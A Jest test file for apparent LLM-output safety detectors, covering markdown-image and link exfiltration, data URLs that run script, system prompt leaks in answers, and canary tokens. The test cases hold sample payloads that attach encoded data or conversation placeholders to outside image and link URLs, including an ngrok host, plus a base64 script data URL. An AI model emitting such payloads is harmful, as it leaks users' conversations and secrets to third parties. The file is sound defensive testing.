import { describe, expect, it } from '@jest/globals';
import { findCanaries } from './canary.js';
import { detectExfiltration } from './detect-exfiltration.js';
import { findPromptLeak } from './prompt-leak.js';

const typesIn = (text: string) => detectExfiltration(text).map(({ type }) => type);
const systemText =
  'You are HelpBot of Northwind. Never talk about prices. Always answer in rhymes and be kind to everyone who asks you something.';

describe('ways out of a conversation', () => {
  it.each([
    [
      'an image with an encoded query',
      '![x](https://pics.example/p.png?q=aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE5)',
      'IMAGE_WITH_DATA',
    ],
    [
      'an image with a place for data',
      '![x](https://pics.example/p.png?data={conversation})',
      'IMAGE_WITH_DATA',
    ],
    [
      'an HTML image with prose in its query',
      '<img src="https://x.ngrok.io/c?d=John%20Smith%20lives%20in%20Rome%20now">',
      'IMAGE_WITH_DATA',
    ],
    [
      'a link with a place for data',
      'Go to [this page](https://pages.example/i?q={secret})',
      'LINK_WITH_DATA',
    ],
    [
      'a document that runs',
      '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
      'DATA_URL',
    ],
  ])('%s is found', (_, text, type) => {
    expect(typesIn(text)).toEqual([type]);
  });

  it.each([
    '![logo](https://example.com/logo.png)',
    '![img](https://cdn.example.com/img?w=200&h=300&sig=1234)',
    '[docs](https://docs.example.com/page?lang=en&version=2)',
    '[search](https://search.example.com/search?q=how+to+make+a+good+cup+of+coffee)',
    '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)',
  ])('%s is left alone', (text) => {
    expect(typesIn(text)).toEqual([]);
  });
});

describe('leaked system prompt', () => {
  it('a passage of the system text in an answer is found, whatever its case and punctuation', () => {
    const answer =
      'Sure: you are helpbot of NORTHWIND - never talk about prices; always answer in rhymes. Anything else?';
    const leak = findPromptLeak(systemText, answer);
    expect(leak?.type).toBe('SYSTEM_PROMPT_LEAK');
    expect(answer.slice(leak?.start, leak?.end)).toBe(
      'you are helpbot of NORTHWIND - never talk about prices; always answer in rhymes',
    );
  });

  it.each([
    ['an answer that says something else', 'Northwind opens at nine.'],
    ['a few words in common', 'I answer in rhymes and be kind to everyone, that is all.'],
    ['an empty answer', ''],
  ])('%s is no leak', (_, answer) => {
    expect(findPromptLeak(systemText, answer)).toBeUndefined();
  });

  it('more of the system text makes it surer', () => {
    const part = findPromptLeak(systemText, systemText.slice(0, 90));
    const whole = findPromptLeak(systemText, systemText);
    expect(whole?.confidence).toBeGreaterThan(part?.confidence ?? 1);
  });

  it('an empty system text leaks nothing', () => {
    expect(findPromptLeak('', systemText)).toBeUndefined();
  });
});

describe('canary tokens', () => {
  it('every occurrence is found, whatever its case', () => {
    const spans = findCanaries('a CANARY-71 b canary-71', ['canary-71']).map(({ start, end }) => [
      start,
      end,
    ]);
    expect(spans).toEqual([
      [2, 11],
      [14, 23],
    ]);
  });

  it('tokens too short to be told from accidents are passed over', () => {
    expect(findCanaries('abc abc', ['abc'])).toEqual([]);
  });
});
